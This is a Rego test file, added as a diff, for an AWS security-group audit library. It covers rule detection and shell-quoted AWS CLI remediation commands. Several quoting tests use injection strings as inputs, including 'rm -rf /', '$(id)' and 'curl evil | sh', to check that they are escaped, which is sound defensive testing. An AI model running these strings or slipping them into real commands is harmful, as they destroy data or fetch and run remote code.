@@ -1,0 +1,268 @@
+package sgaudit.lib.sg_test
+
+import data.sgaudit.lib.sg
+
+group := {
+	"arn": "arn:aws:ec2:eu-west-1:111111111111:security-group/sg-1",
+	"id": "sg-1",
+	"name": "web",
+	"description": "web servers",
+	"account_id": "111111111111",
+	"region": "eu-west-1",
+	"vpc_id": "vpc-1",
+	"is_default": false,
+	"rules": [],
+	"attachments": [],
+	"used_by": [],
+}
+
+with_rules(rules) := object.union(group, {"rules": rules})
+
+rule(id, dir, proto, from, to, peer) := {
+	"id": id,
+	"direction": dir,
+	"protocol": proto,
+	"from_port": from,
+	"to_port": to,
+	"peer": peer,
+	"description": "",
+}
+
+v4(cidr) := {"kind": "cidr_ipv4", "cidr": cidr}
+
+v6(cidr) := {"kind": "cidr_ipv6", "cidr": cidr}
+
+coverage := [
+	{"account_id": "111111111111", "region": "eu-west-1", "status": "ok", "collected": ["security_groups", "network_interfaces", "security_group_rules"]},
+	{"account_id": "111111111111", "region": "us-east-1", "status": "ok", "collected": ["security_groups"]},
+	{"account_id": "222222222222", "region": "eu-west-1", "status": "denied", "collected": []},
+]
+
+# collected / kinds_checked
+
+test_collected_per_region if {
+	sg.collected(group, "network_interfaces") with input.coverage as coverage
+	sg.collected(group, "security_groups") with input.coverage as coverage
+}
+
+test_collected_other_region_does_not_count if {
+	us := object.union(group, {"region": "us-east-1"})
+	not sg.collected(us, "network_interfaces") with input.coverage as coverage
+	other := object.union(group, {"account_id": "222222222222"})
+	not sg.collected(other, "security_groups") with input.coverage as coverage
+}
+
+test_collected_without_coverage if {
+	not sg.collected(group, "network_interfaces") with input as {}
+}
+
+test_kinds_checked_sorted if {
+	got := sg.kinds_checked(group) with input.coverage as coverage
+	got == ["network_interfaces", "security_group_rules", "security_groups"]
+}
+
+test_kinds_checked_nothing if {
+	other := object.union(group, {"account_id": "222222222222"})
+	got := sg.kinds_checked(other) with input.coverage as coverage
+	got == []
+}
+
+# vpc_interface_count
+
+test_vpc_interface_count if {
+	vpcs := [
+		{"id": "vpc-1", "account_id": "111111111111", "region": "eu-west-1", "network_interfaces": 3},
+		{"id": "vpc-1", "account_id": "111111111111", "region": "us-east-1", "network_interfaces": 0},
+	]
+	sg.vpc_interface_count(group) == 3 with input.vpcs as vpcs
+	not sg.vpc_interface_count(object.union(group, {"vpc_id": "vpc-9"})) with input.vpcs as vpcs
+}
+
+# world_ingress
+
+test_world_ingress_selects_world_ingress_only if {
+	g := with_rules([
+		rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/0")),
+		rule("sgr-2", "ingress", "tcp", 22, 22, v6("::/0")),
+		rule("sgr-3", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
+		rule("sgr-4", "ingress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-1"}),
+		rule("sgr-5", "egress", "all", 0, 65535, v4("0.0.0.0/0")),
+		rule("sgr-6", "ingress", "tcp", 22, 22, {"kind": "prefix_list", "prefix_list_id": "pl-1"}),
+	])
+	ids := {r.id | some r in sg.world_ingress(g)}
+	ids == {"sgr-1", "sgr-2"}
+}
+
+test_world_ingress_null_rules if {
+	sg.world_ingress(object.union(group, {"rules": null})) == []
+}
+
+# public_attachments / has_attachments
+
+test_public_attachments if {
+	g := object.union(group, {"attachments": [
+		{"network_interface_id": "eni-1", "interface_type": "interface", "public_ip": "203.0.113.7", "resource": "i-1"},
+		{"network_interface_id": "eni-2", "interface_type": "interface", "resource": "i-2"},
+		{"network_interface_id": "eni-3", "interface_type": "lambda", "public_ip": "", "resource": "Lambda"},
+		{"network_interface_id": "eni-4", "interface_type": "interface", "public_ip": "203.0.113.8"},
+	]})
+	sg.public_attachments(g) == [
+		{"network_interface_id": "eni-1", "public_ip": "203.0.113.7", "resource": "i-1"},
+		{"network_interface_id": "eni-4", "public_ip": "203.0.113.8", "resource": ""},
+	]
+	sg.has_attachments(g)
+}
+
+test_no_attachments if {
+	sg.public_attachments(group) == []
+	not sg.has_attachments(group)
+	not sg.has_attachments(object.union(group, {"attachments": null}))
+	not sg.has_attachments(object.remove(group, ["attachments"]))
+}
+
+# is_aws_default_egress / has_description
+
+test_aws_default_egress if {
+	sg.is_aws_default_egress(rule("sgr-1", "egress", "all", 0, 65535, v4("0.0.0.0/0")))
+	sg.is_aws_default_egress(rule("sgr-2", "egress", "all", 0, 65535, v6("::/0")))
+}
+
+test_not_aws_default_egress if {
+	not sg.is_aws_default_egress(rule("sgr-1", "ingress", "all", 0, 65535, v4("0.0.0.0/0")))
+	not sg.is_aws_default_egress(rule("sgr-1", "egress", "tcp", 0, 65535, v4("0.0.0.0/0")))
+	not sg.is_aws_default_egress(rule("sgr-1", "egress", "all", 0, 65535, v4("10.0.0.0/8")))
+	not sg.is_aws_default_egress(rule("sgr-1", "egress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-2"}))
+	described := object.union(rule("sgr-1", "egress", "all", 0, 65535, v4("0.0.0.0/0")), {"description": "internet"})
+	not sg.is_aws_default_egress(described)
+}
+
+test_has_description if {
+	sg.has_description({"description": "ssh from the office"})
+	not sg.has_description({"description": ""})
+	not sg.has_description({"description": " \t"})
+	not sg.has_description({"description": null})
+	not sg.has_description({})
+}
+
+# shell quoting
+
+test_shell_quote if {
+	sg.shell_quote("web") == "'web'"
+	sg.shell_quote("a b") == "'a b'"
+	sg.shell_quote("x'; rm -rf / #") == `'x'\''; rm -rf / #'`
+	sg.shell_quote("$(id)") == "'$(id)'"
+}
+
+test_shell_word_leaves_aws_ids_bare if {
+	every w in ["sg-0123abcd", "sgr-0a1b", "eu-west-1", "vpc-1", "0.0.0.0/0", "2001:db8::/32", "pl-1"] {
+		sg.shell_word(w) == w
+	}
+}
+
+test_shell_word_quotes_the_rest if {
+	sg.shell_word("sg-1; curl evil|sh") == "'sg-1; curl evil|sh'"
+	sg.shell_word("$(id)") == "'$(id)'"
+	sg.shell_word("-rf") == "'-rf'"
+	sg.shell_word("") == "''"
+}
+
+# remediation commands (exact AWS CLI; the shapes are the contract)
+
+test_revoke_by_rule_id if {
+	r := rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/0"))
+	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-1"
+}
+
+test_revoke_egress_by_rule_id if {
+	r := rule("sgr-2", "egress", "all", 0, 65535, v4("0.0.0.0/0"))
+	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-2"
+}
+
+test_revoke_without_id_ipv4 if {
+	r := rule("", "ingress", "tcp", 22, 22, v4("0.0.0.0/0"))
+	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=0.0.0.0/0}]'"
+}
+
+test_revoke_without_id_ipv6_all_traffic if {
+	r := rule("", "ingress", "all", 0, 65535, v6("::/0"))
+	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=-1,Ipv6Ranges=[{CidrIpv6=::/0}]'"
+}
+
+test_revoke_without_id_prefix_list if {
+	r := rule("", "egress", "tcp", 443, 443, {"kind": "prefix_list", "prefix_list_id": "pl-1"})
+	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=443,ToPort=443,PrefixListIds=[{PrefixListId=pl-1}]'"
+}
+
+test_revoke_without_id_group_reference if {
+	same := rule("", "ingress", "udp", 53, 53, {"kind": "security_group", "group_id": "sg-2", "group_owner": "111111111111"})
+	sg.revoke_command(group, same) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=udp,FromPort=53,ToPort=53,UserIdGroupPairs=[{GroupId=sg-2}]'"
+	cross := rule("", "ingress", "udp", 53, 53, {"kind": "security_group", "group_id": "sg-2", "group_owner": "222222222222"})
+	sg.revoke_command(group, cross) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=udp,FromPort=53,ToPort=53,UserIdGroupPairs=[{UserId=222222222222,GroupId=sg-2}]'"
+}
+
+test_revoke_without_id_icmp_and_numbered if {
+	icmp := rule("", "ingress", "icmp", 8, -1, v4("0.0.0.0/0"))
+	sg.revoke_command(group, icmp) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=icmp,FromPort=8,ToPort=-1,IpRanges=[{CidrIp=0.0.0.0/0}]'"
+	gre := rule("", "ingress", "47", -1, -1, v4("0.0.0.0/0"))
+	sg.revoke_command(group, gre) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=47,IpRanges=[{CidrIp=0.0.0.0/0}]'"
+}
+
+test_revoke_quotes_forged_ids if {
+	g := object.union(group, {"id": "sg-1 --dry-run; id"})
+	r := rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/0"))
+	sg.revoke_command(g, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id 'sg-1 --dry-run; id' --security-group-rule-ids sgr-1"
+}
+
+test_revoke_all_by_ids_per_direction if {
+	g := with_rules([
+		rule("sgr-b", "ingress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-1"}),
+		rule("sgr-a", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
+		rule("sgr-c", "egress", "all", 0, 65535, v4("0.0.0.0/0")),
+	])
+	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-a sgr-b && aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-c"
+}
+
+test_revoke_all_one_direction if {
+	g := with_rules([rule("sgr-c", "egress", "all", 0, 65535, v4("0.0.0.0/0"))])
+	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-c"
+}
+
+test_revoke_all_without_ids if {
+	g := with_rules([
+		rule("", "ingress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-1"}),
+		rule("", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
+	])
+	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=-1,UserIdGroupPairs=[{GroupId=sg-1}]' 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=10.0.0.0/8}]'"
+}
+
+test_describe_rule_command if {
+	r := rule("sgr-1", "ingress", "tcp", 22, 22, v4("10.0.0.0/8"))
+	sg.describe_rule_command(group, r) == `aws ec2 update-security-group-rule-descriptions-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=10.0.0.0/8,Description="<why this rule exists>"}]'`
+}
+
+test_describe_rule_command_egress_group_peer if {
+	r := rule("", "egress", "tcp", 5432, 5432, {"kind": "security_group", "group_id": "sg-db"})
+	sg.describe_rule_command(group, r) == `aws ec2 update-security-group-rule-descriptions-egress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=5432,ToPort=5432,UserIdGroupPairs=[{GroupId=sg-db,Description="<why this rule exists>"}]'`
+}
+
+test_delete_command if {
+	sg.delete_command(group) == "aws ec2 delete-security-group --region eu-west-1 --group-id sg-1"
+}
+
+test_replacement_command if {
+	sg.replacement_command(group) == `aws ec2 create-security-group --region eu-west-1 --vpc-id vpc-1 --group-name 'web-v2' --description "<what this group is for>"`
+}
+
+test_replacement_command_quotes_hostile_name if {
+	g := object.union(group, {"name": "x'; curl evil | sh; echo '"})
+	sg.replacement_command(g) == `aws ec2 create-security-group --region eu-west-1 --vpc-id vpc-1 --group-name 'x'\''; curl evil | sh; echo '\''-v2' --description "<what this group is for>"`
+}
+
+test_replacement_command_without_vpc if {
+	g := object.union(group, {"vpc_id": ""})
+	sg.replacement_command(g) == `aws ec2 create-security-group --region eu-west-1 --group-name 'web-v2' --description "<what this group is for>"`
+}
+
+test_label if {
+	sg.label(group) == "sg-1 (web)"
+}
